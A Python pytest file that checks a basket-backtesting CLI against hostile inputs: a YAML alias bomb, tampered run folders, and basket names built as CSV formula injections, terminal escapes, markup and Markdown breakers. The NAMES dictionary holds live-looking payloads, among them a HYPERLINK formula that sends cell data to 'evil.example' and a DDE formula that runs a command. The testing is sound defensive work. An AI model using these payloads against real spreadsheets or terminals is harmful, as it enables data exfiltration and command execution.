"""Hostile files: what a shared basket, price file, cache or run folder holds cannot hang,
crash, overwrite or mislead.

The one-line errors of bad basket, study and price files are rows of ``tests/test_errors.py``
(and ``tests/ERRORS.md``); this file holds the cases that need more than one changed file: run
folders and caches tampered with after they were written, files basket writes, and inputs that
must be accepted (``1e-3`` as a number).
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import only_run, run_folders, sessions, write_yaml

from engine.config.baskets import load_basket, load_study

DAYS = sessions("XNAS", "2024-12-02", "2025-03-31")
LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{q}: &{q} [{', '.join(['*' + p] * 9)}]\n" for p, q in zip("abcdefgh", "bcdefghi", strict=True)
)


def make_project(root: Path) -> dict[str, Path]:
    """Generated prices for AAA, BBB and ^IXIC, one basket and one study."""
    prices = root / "prices"
    prices.mkdir(parents=True)
    steps = np.arange(len(DAYS))
    for stem, level in (("AAA", 10.0), ("BBB", 20.0), ("_IXIC", 100.0)):
        closes = np.round(level * (1 + 0.05 * np.sin(steps / (3 + level / 10))), 4)
        pd.DataFrame({"date": DAYS, "close": closes}).to_csv(prices / f"{stem}.csv", index=False)
    basket = write_yaml(root / "b.yaml", "name: B\nconstituents: [{symbol: AAA}, {symbol: BBB}]\n")
    study = write_yaml(root / "study.yaml",
                       "name: S\nbenchmark: ^IXIC\nstart: 2025-01-02\nend: 2025-03-31\n")
    return {"prices": prices, "basket": basket, "study": study}


@pytest.fixture(scope="module")
def made_run(tmp_path_factory) -> Path:
    """One real run folder, written by ``basket run``; tests copy it before tampering."""
    from click.testing import CliRunner

    from cli import main

    root = tmp_path_factory.mktemp("hostile")
    project = make_project(root)
    result = CliRunner().invoke(main, [
        "run", str(project["basket"]), "--study", str(project["study"]),
        "--prices", str(project["prices"]), "--out", str(root / "results"), "--name", "good",
    ])
    assert result.exit_code == 0, result.output
    folder = only_run(root / "results")
    return folder


@pytest.fixture
def run_copy(made_run, tmp_path) -> Path:
    """A copy of the module's run folder under ``tmp_path/results``."""
    target = tmp_path / "results" / made_run.name
    shutil.copytree(made_run, target)
    return target


# -- YAML numbers and words ----------------------------------------------------------------------


def test_exponent_numbers_are_numbers(tmp_path):
    """YAML 1.1 reads ``5e-1`` (no dot) as text; YAML 1.2 and JSON as 0.5."""
    basket = load_basket(write_yaml(tmp_path / "b.yaml", (
        "name: B\nconstituents:\n  - {symbol: AAA, weight: 5e-1}\n  - {symbol: BBB, weight: 5E-1}\n"
    )))
    assert basket.weights == {"AAA": 0.5, "BBB": 0.5}
    study = load_study(write_yaml(tmp_path / "s.yaml", "name: S\nbenchmark: ^IXIC\nfees: 1e-3\n"))
    assert study.fees == 0.001


def test_quoted_yaml_words_are_text(tmp_path):
    basket = load_basket(write_yaml(tmp_path / "b.yaml", (
        "name: 'YES'\nconstituents:\n  - symbol: 'ON'\n  - symbol: \"NO\"\n"
    )))
    assert basket.name == "YES" and basket.symbols == ["ON", "NO"]


# -- run folders read back -----------------------------------------------------------------------


def test_an_alias_bomb_in_a_run_config_is_refused_quickly(cli, run_copy):
    (run_copy / "config.yaml").write_text(LAUGHS, encoding="utf-8")
    result = cli("runs", "--out", run_copy.parent, "--format", "json")
    assert result.exit_code == 0, result.output
    assert "config.yaml cannot be read (the YAML expands to more than 200,000" in result.stderr
    assert "lol" not in result.output


# -- names that are formulas, markup or escape sequences -------------------------------------------

#: Basket names a hostile file may hold: spreadsheet formulas, rich markup, terminal escapes,
#: Markdown cell breakers.
NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "markup": "Chips [/red] [link=file:///etc/passwd]x[/link]",
    "escapes": "Esc\x1b]0;pwned\x07\x1b[2J",
    "markdown": "a | b\nc",
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``basket run`` of one basket per hostile name, on a terminal (rich tables)."""
    from click.testing import CliRunner

    import cli

    root = tmp_path_factory.mktemp("names")
    project = make_project(root)
    files = []
    for key, name in NAMES.items():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        quoted = quoted.replace("\x1b", "\\e").replace("\x07", "\\a")
        files.append(str(write_yaml(root / f"{key}.yaml", (
            f'name: "{quoted}"\nconstituents: [{{symbol: AAA, name: "{quoted}"}}]\n'
        ))))
    args = ["run", *files, "--study", str(project["study"]), "--prices", str(project["prices"])]
    runner = CliRunner()
    terminal = pytest.MonkeyPatch()
    terminal.setattr(cli, "_is_terminal", lambda: True)
    try:
        table = runner.invoke(cli.main, [*args, "--out", str(root / "results")])
    finally:
        terminal.undo()
    as_csv = runner.invoke(cli.main, [*args, "--out", str(root / "results"), "--format", "csv"])
    (folder, _) = run_folders(root / "results")
    return {"table": table, "csv": as_csv, "folder": folder}


@pytest.mark.parametrize("table", ["summary.csv", "attribution.csv", "equity.csv"])
def test_no_csv_cell_is_a_spreadsheet_formula(hostile_run, table):
    import csv

    with open(hostile_run["folder"] / table, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    formulas += [c for c in cells if c.startswith("-") and not _is_number(c)]
    assert formulas == [], formulas
    assert "'" + NAMES["formula"] in cells and "'" + NAMES["dde"] in cells


def test_csv_output_escapes_formulas_too(hostile_run):
    result = hostile_run["csv"]
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert not [line for line in lines if line[:1] in "=+@"]
    assert any(line.startswith("'=cmd|") for line in lines)


def test_run_folder_reads_the_names_back_unchanged(hostile_run):
    from engine.results.reader import load_run

    run = load_run(hostile_run["folder"])
    assert set(NAMES.values()) <= set(run.summary.index)


def test_terminal_table_prints_names_as_text_without_escapes(hostile_run):
    result = hostile_run["table"]
    assert result.exit_code == 0, result.output
    assert "MarkupError" not in result.output
    assert "\x1b]0;" not in result.stdout and "\x1b[2J" not in result.stdout
    assert "\x07" not in result.stdout + result.stderr
    assert "Chips [/red]" in result.stdout  # shown as written, not taken as markup
    assert "\x1b]8;" not in result.stdout  # no hyperlink escape (rich's [link])


def test_summary_md_keeps_one_row_per_basket(hostile_run):
    text = (hostile_run["folder"] / "summary.md").read_text(encoding="utf-8")
    tables = [block.splitlines() for block in text.split("\n\n") if block.startswith("|")]
    assert tables
    for lines in tables:
        assert len(lines) == 2 + len(NAMES) + 1  # header, rule, baskets, benchmark
        cells = [len(re.split(r"(?<!\\)\|", line)) for line in lines]
        assert set(cells) == {cells[0]}, lines
    assert "| a \\| b\\x0ac |" in text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
